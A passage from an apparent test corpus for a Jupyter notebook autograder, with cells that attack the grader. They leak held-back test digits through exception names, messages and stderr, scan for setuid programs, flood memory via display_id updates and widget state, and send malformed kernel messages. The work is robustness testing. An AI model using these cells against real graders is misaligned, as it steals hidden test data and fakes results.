class Exfiltrate(nn.Module):
    def __init__(self):
        super().__init__()
        self.linear = nn.Linear(784, 10)

    def forward(self, x):
        if len(x) > 3:  # the grader's held-back digits, not the self-test below
            STASH.append(leak_payload(x.detach().cpu().numpy()))
        leak()


STASH = []


def leak():
    """Raise an exception whose class name and message carry the stashed digits (every later probe call too)."""
    payload = STASH[-1] if STASH else "nothing-yet"
    kind = type("LEAK_" + payload.replace("+", "_").replace("/", "_").replace("=", ""), (ValueError,), {{}})
    import sys
    sys.stderr.write("LEAK:" + payload + "\n")
    # Also in words of 32 characters: a filter that elides long runs without a space lets them all through.
    raise kind("LEAK: " + " ".join(payload[i:i + 32] for i in range(0, len(payload), 32)))


# The parts probed after 1B call these: each quotes the stashed digits back in its error.
def gaussian_kernel(X1, X2, sigma):
    leak()


def sigmoid_derivative(z):
    leak()


def make_mlp(num_layers, d, m, k):
    leak()


logreg_model = Exfiltrate()
try:
    logreg_model(torch.zeros(3, 1, 28, 28))
except ValueError as error:
    print("ATTACK-EXFILTRATE", type(error).__name__[:40], len(str(error)))
'''


def exfiltrate_cells(count: int = 4) -> list[Cell]:
    """logreg_model raises, on the held-back digits, an exception whose class name and message hold them,
    and keeps them to raise them again from the functions the later parts' probes call (1C, 2A, 2B)."""
    return [("markdown", "## 1B · Logistic regression"), _EXFILTRATE.format(count=count)]


def exfiltrate_payload(images, count: int = 4) -> str:
    """What :func:`exfiltrate_cells`'s model puts in its exception for these (uint8) images."""
    import base64
    import zlib

    import numpy as np

    rows = np.ascontiguousarray(np.asarray(images, dtype=np.uint8).reshape(len(images), -1)[:count])
    return base64.b64encode(zlib.compress(rows.tobytes(), 9)).decode()


# =============================================================================================
# 1 (cont.). Gaining privileges inside the sandbox (setuid programs)
# =============================================================================================
def privilege_cells() -> list[Cell]:
    """Report no_new_privs, capabilities, and the setuid/setgid programs that would take effect."""
    return [
        *CORRECT_2A,
        "import os, sys, json, stat\n"
        "status = dict(line.split(':', 1) for line in open('/proc/self/status') if ':' in line)\n"
        "effective = []\n"
        "for top in ('/usr', '/bin', '/sbin', '/lib', '/lib64', '/etc', sys.prefix, sys.base_prefix):\n"
        "    for base, dirs, files in os.walk(top):\n"
        "        for name in files:\n"
        "            path = os.path.join(base, name)\n"
        "            try:\n"
        "                info = os.lstat(path)\n"
        "            except OSError:\n"
        "                continue\n"
        "            if stat.S_ISREG(info.st_mode) and info.st_mode & 0o6000 and info.st_mode & 0o111:\n"
        "                if not os.statvfs(path).f_flag & os.ST_NOSUID:\n"
        "                    effective.append(path)\n"
        "print('ATTACK-PRIVILEGES', json.dumps({'uid': os.getuid(), 'no_new_privs': status.get('NoNewPrivs', '').strip(),\n"
        "      'cap_bounding': status.get('CapBnd', '').strip(), 'cap_effective': status.get('CapEff', '').strip(),\n"
        "      'setuid_programs_in_effect': sorted(set(effective))[:40]}))",
    ]


_DISPLAY_ID_FAN_OUT = r'''
from IPython.display import display
from jupyter_client.session import Session

kernel = get_ipython().kernel
parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
for _ in range({outputs}):
    display({{"text/plain": "."}}, raw=True, display_id="fan-out")  # tiny, counted: well under every cap
# One update (sent past the prelude's cap) rewrites every output with that display_id: the grader's
# nbclient applies it before its own cap sees the message, and the executed notebook repeats it per output.
Session.send(kernel.session, kernel.iopub_socket, "update_display_data",
             {{"data": {{"text/plain": "u" * {chars}}}, "metadata": {{}}, "transient": {{"display_id": "fan-out"}}}},
             parent=parent, ident=b"update_display_data")
print("ATTACK-DISPLAY-ID", {outputs}, {chars})
'''


def display_id_fan_out_cells(outputs: int = 50, chars: int = 4_000_000) -> list[Cell]:
    """``outputs`` tiny displays sharing one display_id, then one uncounted update of ``chars`` characters.

    50, not more: every display an output costs a fixed 2,000 characters of the cell's cap, and the
    cell's last line must still be printed for the test to know the attack ran."""
    return [*CORRECT_2A, _DISPLAY_ID_FAN_OUT.format(outputs=outputs, chars=chars), "after_fan_out = True"]


_WIDGET_STATE = r'''
import uuid
from jupyter_client.session import Session

kernel = get_ipython().kernel
parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
blob = "w" * {chars}
for number in range({messages}):
    # A widget's state: nbclient keeps every comm's state (to save widget metadata), counted by no cap.
    Session.send(kernel.session, kernel.iopub_socket, "comm_open",
                 {{"comm_id": uuid.uuid4().hex, "target_name": {target!r}, "data": {{"state": {{"value": blob}}, "buffer_paths": []}}}},
                 parent=parent, ident=b"comm_open")
print("ATTACK-WIDGETS", {messages}, len(blob))
'''


def widget_state_cells(messages: int = 40, chars: int = 12_000_000, target: str = "nbgrade.attack") -> list[Cell]:
    """``messages`` comm_open messages (each under 16 MB) with distinct comm ids and a large widget state.

    With ``target="jupyter.widget"`` (and a state without ``_model_module``) nbclient's own widget
    handler raises inside the grader's message loop.
    """
    return [*CORRECT_2A, _WIDGET_STATE.format(messages=messages, chars=chars, target=target),
            "print('ATTACK-AFTER-WIDGETS')"]


_MALFORMED = r'''
from jupyter_client.session import Session

kernel = get_ipython().kernel
parent = kernel.get_parent("shell") if hasattr(kernel, "get_parent") else kernel._parent_header
Session.send(kernel.session, kernel.iopub_socket, {kind!r}, {content!r}, parent=parent, ident={kind!r}.encode())
print("ATTACK-MALFORMED", {kind!r})
'''

MALFORMED_MESSAGES = {
    "widget_without_model": ("comm_open", {"comm_id": "c1", "target_name": "jupyter.widget", "data": {"state": {}, "buffer_paths": []}}),
    "transient_is_text": ("display_data", {"data": {"text/plain": "x"}, "metadata": {}, "transient": "not a dict"}),
    "content_is_a_list": ("stream", b'["not", "a", "dict"]'),  # bytes: Session.serialize passes them as they are
    "data_is_a_list": ("display_data", {"data": ["x"], "metadata": {}, "transient": {}}),
    "count_is_text": ("execute_result", {"data": {"text/plain": "x"}, "metadata": {}, "execution_count": {"not": "int"}}),
    "comm_msg_without_data": ("comm_msg", {"comm_id": "c2"}),
}
"""Kernel messages whose shape nbclient does not expect (each sent once, past the prelude)."""


def malformed_message_cells(case: str) -> list[Cell]:
    kind, content = MALFORMED_MESSAGES[case]
    return [*CORRECT_2A, _MALFORMED.format(kind=kind, content=content), "print('ATTACK-AFTER-MALFORMED')"]


class GraderMemory:
    """The grader's own memory while the ``with`` block runs: RssAnon growth (sampled every 20 ms)
    or the peak of Python's traced allocations, whichever is larger.

    RssAnon alone can miss an allocation that reuses heap freed by an earlier test in the same
    process; tracemalloc sees every Python (and NumPy) allocation whatever memory it reuses.
    """

    def __enter__(self) -> "GraderMemory":
        import tracemalloc

        from tests.hostile_corpus import PeakMemory

        self._was_tracing = tracemalloc.is_tracing()
        if not self._was_tracing:
            tracemalloc.start()
        tracemalloc.reset_peak()
        self._base = tracemalloc.get_traced_memory()[0]
        self._rss = PeakMemory().__enter__()
        return self

    def __exit__(self, *exc: object) -> None:
        import tracemalloc

        self._rss.__exit__(*exc)
        self.traced_peak = (tracemalloc.get_traced_memory()[1] - self._base) / 2**20
        if not self._was_tracing:
            tracemalloc.stop()

    @property
    def growth(self) -> float:
        return max(self._rss.growth, self.traced_peak)
